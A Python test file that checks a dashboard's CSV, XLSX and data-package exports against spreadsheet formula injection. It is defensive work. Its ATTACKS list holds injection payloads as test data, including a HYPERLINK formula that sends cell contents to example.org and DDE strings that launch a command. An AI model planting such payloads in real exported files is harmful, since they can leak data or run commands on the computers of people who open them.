"""No text of a file is ever run: what a spreadsheet would take for a formula is only text."""

import csv
import dataclasses
import io
import zipfile

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from dashboard.exports.asked import wanted
from dashboard.exports.declaration import Options, formats, sheets
from dashboard.exports.sheet import Sheet
from dashboard.exports.text import cell_text, csv_bytes, guarded
from dashboard.words import Speaker

SAY = Speaker(lang="en")
ATTACKS = (
    '=HYPERLINK("http://example.org?x="&A1,"click")',
    "=cmd|'/C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    '","=1+1","',
    "x\r\n=1+1",
)
STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")


def attacked() -> Sheet:
    """A sheet in which every text is an attack: names, title and evidence."""
    asked = wanted("map", "csv", "")
    sheet = sheets()["map"].make(asked.view, asked.say)
    columns = tuple(
        dataclasses.replace(one, title=f"={one.title}", about=f"@{one.about}")
        for one in sheet.columns
    )
    rows = tuple(
        (row[0], attack, attack, *row[3:]) for row, attack in zip(sheet.rows, ATTACKS, strict=False)
    )
    source = dataclasses.replace(sheet.sources[0], title="=1+1", publisher="-1", url="@x")
    return dataclasses.replace(
        sheet, title="=1+1", about="+1", columns=columns, rows=rows, sources=(source,)
    )


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_begins_with_an_apostrophe(attack: str) -> None:
    told = guarded(attack)
    assert told.endswith(attack)
    assert not told.lstrip(" \u00a0").startswith(STARTS)


@given(st.text())
def test_no_text_begins_like_a_formula_and_none_is_lost(text: str) -> None:
    told = guarded(text)
    assert not told.startswith(STARTS)
    assert told in (text, f"'{text}")


@given(st.floats(allow_nan=False, allow_infinity=False))
def test_a_number_stays_the_number_it_is(value: float) -> None:
    assert float(cell_text(value)) == value


@given(st.lists(st.lists(st.text(alphabet=st.characters(codec="utf-8"))), max_size=4))
def test_a_csv_file_is_read_back_cell_by_cell(rows: list[list[str]]) -> None:
    text = csv_bytes(rows).decode("utf-8")
    read = list(csv.reader(io.StringIO(text, newline="")))
    assert read == [[guarded(cell) for cell in row] for row in rows]


def test_halves_of_letters_do_not_stop_a_file() -> None:
    assert csv_bytes([["a\ud800b"]]) == b"a?b\r\n"


def test_a_csv_file_keeps_attacks_as_text() -> None:
    content = formats()["csv"].write(attacked(), Options(), SAY).decode()
    rows = list(csv.reader(io.StringIO(content, newline="")))
    assert len(rows) == 1 + len(ATTACKS)
    for row in rows:
        for cell in row:
            number = cell.removeprefix("-").replace(".", "").replace("e", "").isdigit()
            assert number or not cell.startswith(STARTS), cell


def test_a_workbook_holds_no_formula_and_no_link() -> None:
    content = formats()["xlsx"].write(attacked(), Options(), SAY)
    book = openpyxl.load_workbook(io.BytesIO(content))
    for page in book.worksheets:
        for row in page.iter_rows():
            for cell in row:
                assert cell.data_type != "f" and cell.hyperlink is None
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(STARTS), (page.title, cell.value)
    with zipfile.ZipFile(io.BytesIO(content)) as packed:
        whole = b"".join(packed.read(name) for name in packed.namelist())
    assert b"<f>" not in whole and b"<hyperlink" not in whole


def test_the_data_of_a_package_keeps_attacks_as_text() -> None:
    content = formats()["datapackage"].write(attacked(), Options(), SAY)
    with zipfile.ZipFile(io.BytesIO(content)) as packed:
        for name in packed.namelist():
            assert not name.startswith("/") and ".." not in name
            if name.endswith(".csv"):
                text = packed.read(name).decode()
                for row in csv.reader(io.StringIO(text, newline="")):
                    assert not any(cell.startswith(STARTS[:1]) for cell in row)
